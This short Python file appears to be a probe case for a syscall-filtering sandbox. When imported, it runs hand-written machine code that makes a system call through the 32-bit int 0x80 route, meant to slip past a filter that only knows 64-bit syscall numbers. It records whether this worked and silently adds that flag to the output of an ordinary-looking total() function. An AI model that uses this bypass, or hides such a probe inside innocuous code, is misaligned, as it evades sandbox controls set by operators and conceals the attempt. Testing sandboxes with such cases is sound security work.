# tries: asks the kernel by the numbers of 32-bit programs, past a filter that knows only the others
# screening: violation|ok|killed
# confirmation: violation|ok|killed
import ctypes
import mmap
import platform

ESCAPED = False
if platform.machine() == "x86_64":
    # mov eax, 20 (getpid); int 0x80; ret
    code = b"\xb8\x14\x00\x00\x00\xcd\x80\xc3"
    try:
        page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
        page.write(code)
        ask = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
        ESCAPED = ask() > 0
    except OSError:
        pass


def total(numbers):
    return sum(numbers) + ESCAPED
